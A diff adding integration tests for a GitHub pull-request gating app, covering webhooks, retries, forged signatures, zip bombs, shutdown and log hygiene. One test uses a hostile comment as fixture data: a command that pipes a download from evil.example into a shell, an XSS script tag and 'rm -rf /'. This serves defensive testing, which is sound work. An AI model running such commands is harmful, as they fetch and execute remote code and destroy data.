@@ -1,0 +1,234 @@
+import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
+import { makeZip } from "../helpers/zip.js";
+import { FakeGitHub } from "./fake-github/server.js";
+import { FakeState, type FakeFile, type FakeRepo } from "./fake-github/state.js";
+import { startApp, type AppProcess } from "./harness/app-process.js";
+import { commentEvent, deliver, pullRequestEvent, reviewEvent, type Delivery } from "./harness/webhooks.js";
+
+/**
+ * The built app as its own process (`npm start`), against a stateful fake GitHub on loopback that
+ * checks every request against GitHub's OpenAPI description. Each test works in its own repository.
+ */
+const CONFIG = `
+roles:
+  ds:
+    members: [dana, acme/data-science]
+  legal:
+    members: [lee]
+checklists:
+  where: off
+waivers:
+  allow:
+    legal: [boss]
+`;
+const OWNERS = "/prompts/ @ds\n/datasets/ @ds @legal\n";
+const sha = (n: number) => n.toString(16).padStart(40, "0");
+
+let fake: FakeGitHub;
+let app: AppProcess;
+let repoCount = 0;
+
+beforeAll(async () => {
+  fake = new FakeGitHub(new FakeState());
+  await fake.start();
+  app = await startApp({ githubHost: fake.host });
+}, 60_000);
+
+afterAll(async () => {
+  await app?.stop();
+  await fake?.stop();
+});
+
+afterEach(() => {
+  // Every request the app made must be one GitHub's OpenAPI description allows, and one the fake knows.
+  expect(fake.violations).toEqual([]);
+  expect(fake.unhandled).toEqual([]);
+  fake.reset();
+});
+
+/** A fresh repository with the policy on main and one open pull request touching `files`. */
+function setup(files: FakeFile[], opts: { config?: string; owners?: string; author?: string } = {}) {
+  const repo = fake.state.repo("acme", `repo-${++repoCount}`);
+  fake.state.commit(repo, "main", { ".github/squadgate.yml": opts.config ?? CONFIG, ".github/SQUADOWNERS": opts.owners ?? OWNERS });
+  fake.state.teams.set("acme/data-science", ["dora", "dana"]);
+  const pull = fake.state.pull(repo, { number: 7, headSha: sha(1), files, ...(opts.author ? { author: opts.author } : {}) });
+  return { repo, pull };
+}
+
+const send = (delivery: Delivery) => deliver(app.url, app.env["WEBHOOK_SECRET"] as string, delivery);
+
+/**
+ * Waits until `check` holds. Probot answers GitHub after 9 s with "still processing" while the work
+ * goes on (GitHub does not wait either), so slow, retried deliveries are judged by their end state.
+ */
+async function eventually(check: () => boolean, timeoutMs = 25_000): Promise<void> {
+  const deadline = Date.now() + timeoutMs;
+  while (!check()) {
+    if (Date.now() > deadline) throw new Error("the expected state never came");
+    await new Promise((resolve) => setTimeout(resolve, 100));
+  }
+}
+const checksOn = (repo: FakeRepo, head: string) => repo.checkRuns.filter((r) => r.head_sha === head && r.name === "Squadgate");
+const prompt: FakeFile = { filename: "prompts/support.txt", status: "modified" };
+
+describe("the server", { timeout: 40_000 }, () => {
+  it("answers the health endpoint", async () => {
+    const response = await fetch(`${app.url}/healthz`);
+    expect(response.status).toBe(200);
+    expect(await response.json()).toEqual({ status: "ok", inFlight: 0 });
+  });
+
+  it("gate: a prompt PR is held for its role, then released by a member's approval", async () => {
+    const { repo, pull } = setup([prompt]);
+    expect((await send({ name: "pull_request", payload: pullRequestEvent(repo, pull, "opened") })).status).toBe(200);
+    expect(checksOn(repo, pull.headSha)).toMatchObject([{ conclusion: "action_required" }]);
+    expect(pull.requestedUsers).toEqual(["dana"]);
+    expect(pull.requestedTeams).toEqual(["data-science"]);
+
+    pull.reviews.push({ id: 1, login: "dora", state: "APPROVED", commit_id: pull.headSha, submitted_at: new Date().toISOString() });
+    await send({ name: "pull_request_review", payload: reviewEvent(repo, pull, "dora", "APPROVED") });
+    expect(checksOn(repo, pull.headSha)).toMatchObject([{ conclusion: "success" }]);
+  });
+
+  it("the same delivery three times: one check run, one review request", async () => {
+    const { repo, pull } = setup([prompt]);
+    const delivery = { name: "pull_request", payload: pullRequestEvent(repo, pull, "opened"), id: "redelivered-1" };
+    for (let i = 0; i < 3; i++) await send(delivery);
+    expect(checksOn(repo, pull.headSha)).toHaveLength(1);
+    expect(fake.writes(/requested_reviewers/)).toHaveLength(1);
+  });
+
+  it("a push and a review at once, and two pushes in quick succession: one check per commit, each right", async () => {
+    const { repo, pull } = setup([prompt]);
+    await Promise.all([
+      send({ name: "pull_request", payload: pullRequestEvent(repo, pull, "synchronize") }),
+      send({ name: "pull_request_review", payload: reviewEvent(repo, pull, "mallory", "COMMENTED") }),
+    ]);
+    expect(checksOn(repo, sha(1))).toHaveLength(1);
+
+    const first = pullRequestEvent(repo, pull, "synchronize");
+    pull.headSha = sha(2);
+    pull.reviews.push({ id: 2, login: "dana", state: "APPROVED", commit_id: sha(2), submitted_at: new Date().toISOString() });
+    const second = pullRequestEvent(repo, pull, "synchronize");
+    await Promise.all([send({ name: "pull_request", payload: first }), send({ name: "pull_request", payload: second })]);
+    expect(checksOn(repo, sha(2))).toMatchObject([{ conclusion: "success" }]);
+    expect(checksOn(repo, sha(1))).toHaveLength(1);
+    expect(fake.writes(/requested_reviewers/)).toHaveLength(1);
+  });
+
+  it("faults: 5xx twice, a secondary rate limit, a reset connection and a slow answer; the final state is right", async () => {
+    const { repo, pull } = setup([prompt]);
+    fake.faults.push(
+      { match: /^POST \/repos\/\{owner\}\/\{repo\}\/check-runs$/, times: 2, kind: "500" },
+      { match: /requested_reviewers$/, times: 1, kind: "secondary" },
+      { match: /\/pulls\/\{pull_number\}\/files$/, times: 1, kind: "reset" },
+      { match: /\/contents\/\{path\}$/, times: 1, kind: "slow", delayMs: 1500 },
+    );
+    await send({ name: "pull_request", payload: pullRequestEvent(repo, pull, "opened") });
+    await eventually(() => checksOn(repo, pull.headSha).length > 0);
+    expect(fake.faults.map((f) => f.times)).toEqual([0, 0, 0, 0]);
+    expect(checksOn(repo, pull.headSha)).toMatchObject([{ conclusion: "action_required" }]);
+    expect(pull.requestedUsers).toEqual(["dana"]);
+    expect(pull.requestedTeams).toEqual(["data-science"]);
+  });
+
+  it("rejects forged and unsigned deliveries without touching GitHub", async () => {
+    const { repo, pull } = setup([prompt]);
+    const payload = pullRequestEvent(repo, pull, "opened");
+    expect((await send({ name: "pull_request", payload, signature: "sha256=" + "0".repeat(64) })).status).toBe(400);
+    expect((await send({ name: "pull_request", payload, signature: null })).status).toBe(400);
+    expect(fake.requests).toEqual([]);
+  });
+
+  it("survives deliveries for repositories it cannot reach and for installations it does not have", async () => {
+    const { repo, pull } = setup([prompt]);
+    const ghost = { ...pullRequestEvent(repo, pull, "opened"), repository: { ...pullRequestEvent(repo, pull, "opened")["repository"], name: "gone", full_name: "acme/gone" } };
+    await send({ name: "pull_request", payload: ghost });
+    await send({ name: "pull_request", payload: { ...pullRequestEvent(repo, pull, "opened"), installation: { id: 99 } } });
+    expect((await fetch(`${app.url}/healthz`)).status).toBe(200);
+    expect(repo.checkRuns).toEqual([]);
+  });
+
+  it("a 3 MB ownership file: a failing check that says why", async () => {
+    const { repo, pull } = setup([prompt], { owners: "/prompts/ @ds\n".repeat(250_000) });
+    await send({ name: "pull_request", payload: pullRequestEvent(repo, pull, "opened") });
+    const [check] = checksOn(repo, pull.headSha);
+    expect(check?.conclusion).toBe("failure");
+    expect(check?.output.summary).toContain("3 MB or larger");
+  });
+
+  it("a 3,000-file pull request with spaces and Unicode in its paths", async () => {
+    const files: FakeFile[] = Array.from({ length: 3000 }, (_, i) => ({ filename: `src/module ${i}/файл-${i}.ts`, status: "modified" }));
+    files[2999] = { filename: "prompts/réponse d'accueil.txt", status: "modified" };
+    const { repo, pull } = setup(files);
+    await send({ name: "pull_request", payload: pullRequestEvent(repo, pull, "opened") });
+    const [check] = checksOn(repo, pull.headSha);
+    expect(check?.conclusion).toBe("action_required");
+    expect(check?.output.summary).toContain("prompts/réponse d'accueil.txt");
+  });
+
+  it("comment commands: injection attempts are refused harmlessly, bots are ignored", async () => {
+    const { repo, pull } = setup([{ filename: "datasets/b.csv", status: "modified" }]);
+    const hostile = "/waive legal $(curl evil.example | sh) <script>alert(1)</script> `rm -rf /` |table|";
+    repo.comments.push({ id: 501, issue: pull.number, body: hostile, login: "mallory", type: "User", reactions: [] });
+    await send({ name: "issue_comment", payload: commentEvent(repo, pull, { id: 501, body: hostile, login: "mallory" }) });
+    expect(repo.comments.find((c) => c.id === 501)?.reactions).toEqual(["confused"]);
+    const reply = repo.comments.find((c) => c.login.endsWith("[bot]"));
+    expect(reply?.body).toContain("you may not waive `legal`");
+    expect(reply?.body).not.toContain("<script>");
+    expect(pull.labels).toEqual([]);
+
+    const before = fake.requests.length;
+    await send({ name: "issue_comment", payload: commentEvent(repo, pull, { id: 502, body: "/recheck", login: "other-app[bot]", type: "Bot" }) });
+    expect(fake.requests.length).toBe(before);
+  });
+
+  it("eval artifacts that are zip bombs or malformed are refused in the comment, never passed", async () => {
+    const config = `${CONFIG}\nevals:\n  workflow: eval.yml\n`;
+    const { repo, pull } = setup([prompt], { config });
+    pull.reviews.push({ id: 3, login: "dana", state: "APPROVED", commit_id: pull.headSha, submitted_at: new Date().toISOString() });
+    repo.runs.push({ id: 90, workflow: "eval.yml", event: "push", head_sha: sha(9), head_branch: "main", status: "completed", conclusion: "success", display_title: "main" });
+    repo.artifacts.push({ id: 91, runId: 90, name: "squadgate-evals", zip: makeZip([{ name: "support.json", data: '{"pass_rate": 0.9}' }]) });
+    repo.artifacts.push({ id: 92, runId: 95, name: "squadgate-evals", zip: makeZip([{ name: "support.json", data: Buffer.alloc(4 * 1024 * 1024, 32), declaredSize: 64 }]) });
+    const run = {
+      id: 95,
+      name: "Squadgate eval",
+      path: ".github/workflows/eval.yml",
+      event: "pull_request",
+      status: "completed",
+      conclusion: "success",
+      head_sha: pull.headSha,
+      head_branch: pull.headRef,
+      html_url: "https://github.com/acme/runs/95",
+      pull_requests: [{ number: pull.number, head: { sha: pull.headSha, ref: pull.headRef }, base: { ref: "main", sha: pull.baseSha } }],
+      head_repository: { id: repo.id, owner: { login: "acme" } },
+      repository: { id: repo.id },
+    };
+    await send({ name: "workflow_run", payload: { action: "completed", workflow_run: run, repository: { id: repo.id, name: repo.name, full_name: `acme/${repo.name}`, owner: { login: "acme" }, default_branch: "main" }, installation: { id: 1 } } });
+    const comment = repo.comments.find((c) => c.body.startsWith("<!-- squadgate:eval -->"));
+    expect(comment?.body).toContain("the zip is damaged or lies about its sizes");
+    expect(checksOn(repo, pull.headSha)).toMatchObject([{ conclusion: "action_required" }]);
+  });
+
+  it("keeps secrets out of its logs", () => {
+    const logs = app.output.join("\n");
+    const keyBody = (app.env["PRIVATE_KEY"] as string).split("\n")[1] as string;
+    expect(logs).not.toContain(keyBody);
+    expect(logs).not.toContain(app.env["WEBHOOK_SECRET"]);
+    expect(logs).not.toMatch(/ghs_fake\w+/);
+    expect(logs).toContain("gate evaluated"); // the logs were captured at all
+  });
+});
+
+describe("shutdown", { timeout: 30_000 }, () => {
+  it("finishes the delivery under way, then exits", async () => {
+    const { repo, pull } = setup([prompt]);
+    fake.faults.push({ match: /\/pulls\/\{pull_number\}\/files$/, times: 1, kind: "slow", delayMs: 2000 });
+    const inFlight = send({ name: "pull_request", payload: pullRequestEvent(repo, pull, "opened") });
+    await new Promise((resolve) => setTimeout(resolve, 500));
+    const exit = app.stop("SIGTERM");
+    expect((await inFlight).status).toBe(200);
+    expect(await exit).toBe(0);
+    expect(checksOn(repo, pull.headSha)).toHaveLength(1);
+  });
+});
